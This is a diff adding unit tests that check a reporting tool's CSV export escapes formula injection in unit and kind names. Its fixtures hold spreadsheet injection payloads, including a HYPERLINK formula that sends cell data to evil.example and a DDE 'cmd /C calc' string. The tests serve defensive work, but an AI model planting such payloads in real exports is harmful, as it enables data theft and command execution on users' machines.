@@ -5,9 +5,31 @@ import { totals } from '../../src/aggregate/totals.js';
 import { definePlatform } from '../../src/model/platform.js';
 import { defineRegistry } from '../../src/model/registry.js';
 import { type ReportFormat, renderReport } from '../../src/report/render-report.js';
+import { renderCsv } from '../../src/report/table.js';
 import { snap } from '../fixtures.js';
 
 const FORMATS: readonly ReportFormat[] = ['text', 'markdown', 'csv', 'json'];
+
+/** A registry written by an attacker: formulas, Markdown, HTML, controls and bidi in the names. */
+const hostile = defineRegistry({
+  units: [
+    { id: 'mp', kind: 'state', name: '=HYPERLINK("http://evil.example/?"&A1,"Madhya Pradesh")' },
+    { id: 'indore', kind: '@SUM(1+1)', name: "-2+3+cmd|' /C calc'!A0", parent: 'mp' },
+    { id: 'bhopal', kind: 'district', name: '+1+1', parent: 'mp' },
+  ],
+  accounts: [
+    { id: 'indore-x', unit: 'indore', platform: 'x', handle: 'IndoreCollector' },
+    { id: 'bhopal-x', unit: 'bhopal', platform: 'x', handle: 'BhopalCollector' },
+  ],
+});
+const hostileBefore = [
+  snap('indore-x', 'x', 5_000, '2026-10-01T00:00:00Z'),
+  snap('bhopal-x', 'x', 3_000, '2026-10-01T00:00:00Z'),
+];
+const hostileAfter = [
+  snap('indore-x', 'x', 3_800, '2026-11-01T00:00:00Z'),
+  snap('bhopal-x', 'x', 3_100, '2026-11-01T00:00:00Z'),
+];
 
 describe('report escaping (issue #10, defect 9)', () => {
   it('defect 9: a custom platform named "constructor" renders in every format', () => {
@@ -46,5 +68,35 @@ describe('report escaping (issue #10, defect 9)', () => {
     const csv = renderReport({ registry, totals: t }, { format: 'csv' }).split('\r\n');
     expect(csv).toContain('bhopal,Bhopal,district,mp,x,,5,5,5,exact,1,1,');
     expect(csv.filter((line) => line.startsWith('bhopal,'))).toHaveLength(2); // all, x
+  });
+
+  it("defect 9: a CSV text cell starting with =, +, -, @, tab or CR is prefixed with ' and quoted", () => {
+    const lines = renderReport(
+      { registry: hostile, totals: totals(hostile, hostileAfter) },
+      { format: 'csv' },
+    ).split('\r\n');
+    expect(lines).toContain(
+      `mp,"'=HYPERLINK(""http://evil.example/?""&A1,""Madhya Pradesh"")",state,,all,,6900,6900,6900,exact,2,2,`,
+    );
+    expect(lines).toContain(
+      `indore,"'-2+3+cmd|' /C calc'!A0","'@SUM(1+1)",mp,all,,3800,3800,3800,exact,1,1,`,
+    );
+    expect(lines).toContain(`bhopal,"'+1+1",district,mp,all,,3100,3100,3100,exact,1,1,`);
+    // Tab and CR cannot reach a name through the registry (it trims), but the renderer is the
+    // last line of defence for any text it is given.
+    expect(renderCsv(['a', 'b', 'c'], [['\t=1+1', '\r=1+1', ' =1+1']])).toBe(
+      `a,b,c\r\n"'\t=1+1","'\r=1+1","' =1+1"\r\n`,
+    );
+    expect(renderCsv(['a'], [['＝1+1'], ['-'], ['@']])).toBe(`a\r\n"'＝1+1"\r\n"'-"\r\n"'@"\r\n`);
+  });
+
+  it('defect 9: CSV numbers stay bare numbers (negative growth too, so columns sum); text like "-1200" is neutralised', () => {
+    const csv = renderReport(
+      { registry: hostile, growth: growth(hostile, hostileBefore, hostileAfter) },
+      { format: 'csv' },
+    );
+    const indore = csv.split('\r\n').find((line) => line.startsWith('indore,'))!;
+    expect(indore).toBe(`indore,"'-2+3+cmd|' /C calc'!A0",all,5000,3800,-1200,-1200,-1200,-24,1,,`);
+    expect(renderCsv(['n', 'text'], [[-1200, '-1200']])).toBe(`n,text\r\n-1200,"'-1200"\r\n`);
   });
 });
